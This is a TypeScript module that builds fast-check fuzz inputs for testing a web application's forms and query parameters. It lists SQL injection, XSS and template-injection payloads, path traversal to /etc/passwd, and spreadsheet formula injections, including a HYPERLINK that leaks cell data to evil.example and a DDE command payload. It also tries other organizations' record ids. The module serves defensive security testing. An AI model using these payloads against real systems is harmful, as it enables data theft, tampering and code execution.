import fc from 'fast-check';

/** A long value, kept short in fast-check's reports and built only when sent. */
export class Huge {
	constructor(
		readonly unit: string,
		readonly count: number
	) {}
	text(): string {
		return this.unit.repeat(this.count);
	}
	[fc.toStringMethod](): string {
		return `Huge(${JSON.stringify(this.unit)} × ${this.count})`;
	}
}

/** Bytes sent as they are, most often not UTF-8 (overlong forms, CESU-8 surrogates, stray bytes). */
export class Bytes {
	constructor(readonly bytes: readonly number[]) {}
	[fc.toStringMethod](): string {
		const shown = this.bytes.slice(0, 24).map((b) => b.toString(16).padStart(2, '0'));
		return `Bytes(${shown.join(' ')}${this.bytes.length > 24 ? ` … ${this.bytes.length} bytes` : ''})`;
	}
}

/** A file where the form expects text (or a file with odd content where it expects one). */
export class Upload {
	constructor(
		readonly name: string,
		readonly content: string | Huge | Bytes,
		readonly type = 'application/octet-stream'
	) {}
	[fc.toStringMethod](): string {
		return `Upload(${JSON.stringify(this.name)}, ${fc.stringify(this.content)}, ${this.type})`;
	}
}

export type HostileValue = string | Huge | Bytes | Upload;

const SQL_PAYLOADS = [
	"' OR 1=1 --",
	"'; DROP TABLE participants; --",
	'" OR ""="',
	"1' UNION SELECT password_hash FROM staff_users --",
	'%',
	'_',
	'\\'
];
/** Cells a spreadsheet would run (OWASP's CSV injection list). */
export const FORMULA_PAYLOADS = [
	'=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
	'=1+1',
	'+1+1',
	'-1+1',
	'@SUM(1,1)',
	"=cmd|' /C calc'!A0",
	'\t=1+1',
	'\r=1+1'
];
const MARKUP_PAYLOADS = [
	'<script>alert(1)</script>',
	'"><img src=x onerror=alert(1)>',
	"'><svg onload=alert(1)>",
	'</textarea><script>alert(1)</script>',
	'javascript:alert(1)',
	'{{constructor.constructor("alert(1)")()}}',
	'${alert(1)}'
];
const NUMBER_PAYLOADS = [
	'-1',
	'0',
	'NaN',
	'Infinity',
	'-Infinity',
	'1e309',
	'-0',
	'0x10',
	'1e-400',
	'9007199254740993',
	'1.5',
	' 3 ',
	'٣',
	'３',
	'99999999999999999999999'
];
const DATE_PAYLOADS = [
	'2027-02-30',
	'2027-13-01',
	'0000-00-00',
	'2027-2-3',
	'2027-02-28T00:00:00Z',
	'+002027-01-01',
	'-002027-01-01',
	'9999-12-31',
	'2026-02-29',
	'31/12/2027'
];
/** Odd names for a field a form does not have. */
export const FIELD_NAMES = [
	'__proto__',
	'constructor',
	'toString',
	'hasOwnProperty',
	'x'.repeat(300)
];

const PATH_PAYLOADS = [
	'../../etc/passwd',
	'/\\evil.example',
	'//evil.example',
	'%2e%2e%2f',
	'\u0000'
];
/** Code units that break naive handling: NUL and the other controls, and lone surrogates. */
const controlUnit = fc.integer({ min: 0, max: 0x1f }).map((code) => String.fromCharCode(code));
const surrogateUnit = fc
	.integer({ min: 0xd800, max: 0xdfff })
	.map((code) => String.fromCharCode(code));
const oddUnit = fc.oneof(controlUnit, surrogateUnit, fc.constantFrom('\u202e', '\ufeff', '\u0085'));

export const invalidUtf8 = fc
	.constantFrom(
		[0xff],
		[0xfe, 0xff],
		[0xc0, 0xaf],
		[0xe0, 0x80, 0xaf],
		[0xed, 0xa0, 0x80],
		[0xf8, 0x88, 0x80, 0x80, 0x80],
		[0x80],
		[0x61, 0xc3]
	)
	.map((bytes) => new Bytes(bytes));

/** Any bytes at all, as a file's content. */
export const randomBytes = fc.uint8Array({ maxLength: 3000 }).map((bytes) => new Bytes([...bytes]));

/** One megabyte and more: past every field limit, under the server's body limit when ASCII. */
const huge = fc.oneof(
	fc.constant(new Huge('x', 1024 * 1024)),
	fc.constant(new Huge('é', 300_000)),
	fc.constant(new Huge('<', 200_000)),
	fc.constant(new Huge('a,', 2100))
);

/** Well-formed ids of records that do not exist. */
export const unknownId = fc.stringMatching(/^[a-z2-7]{16}$/);

/**
 * A value to put where a form expects something sensible. `ids` are real ids of records the
 * sender may not touch (another organization's), tried as well as unknown ones.
 */
export function hostileValue(ids: readonly string[] = []): fc.Arbitrary<HostileValue> {
	const id = ids.length > 0 ? fc.oneof(unknownId, fc.constantFrom(...ids)) : unknownId;
	return fc.oneof(
		{
			weight: 3,
			arbitrary: fc.constantFrom(...MARKUP_PAYLOADS, ...SQL_PAYLOADS, ...FORMULA_PAYLOADS)
		},
		{ weight: 2, arbitrary: fc.constantFrom(...NUMBER_PAYLOADS, ...DATE_PAYLOADS) },
		{ weight: 2, arbitrary: id },
		{ weight: 1, arbitrary: fc.constantFrom('', ' ', '\t\n', ...PATH_PAYLOADS) },
		{ weight: 2, arbitrary: fc.string({ unit: oddUnit, minLength: 1, maxLength: 12 }) },
		{ weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
		{ weight: 1, arbitrary: fc.string({ maxLength: 300 }) },
		{ weight: 1, arbitrary: invalidUtf8 },
		{ weight: 1, arbitrary: huge },
		{
			weight: 1,
			arbitrary: fc
				.tuple(
					fc.constantFrom('a.txt', '', '../x.csv', 'é.json'),
					fc.oneof(fc.string(), invalidUtf8)
				)
				.map(([name, content]) => new Upload(name, content))
		}
	);
}

export const utf8 = new TextEncoder();

export function bytesOf(value: string | Huge | Bytes): Uint8Array<ArrayBuffer> {
	if (value instanceof Bytes) return Uint8Array.from(value.bytes);
	return utf8.encode(value instanceof Huge ? value.text() : value);
}

export const percent = (bytes: Uint8Array) =>
	[...bytes].map((b) => `%${b.toString(16).toUpperCase().padStart(2, '0')}`).join('');

const UNRESERVED = /[A-Za-z0-9\-._~]/;

/** Percent-encodes every byte of the UTF-8 form (lone surrogates become U+FFFD, as browsers send). */
export function encodeComponent(text: string): string {
	return [...text]
		.map((char) => (UNRESERVED.test(char) ? char : percent(utf8.encode(char))))
		.join('');
}

/** A query or path value as it goes on the wire: hostile text encoded, or broken escapes as-is. */
export function queryValue(ids: readonly string[] = []): fc.Arbitrary<string> {
	return fc.oneof(
		{
			weight: 4,
			arbitrary: hostileValue(ids)
				.filter((value): value is string => typeof value === 'string')
				.map(encodeComponent)
		},
		{
			weight: 1,
			arbitrary: fc.constantFrom(
				'%',
				'%E0%A4%A',
				'%FF',
				'%00',
				'%2e%2e%2f',
				'%C0%AF',
				'..',
				'%2F',
				'%252F'
			)
		}
	);
}
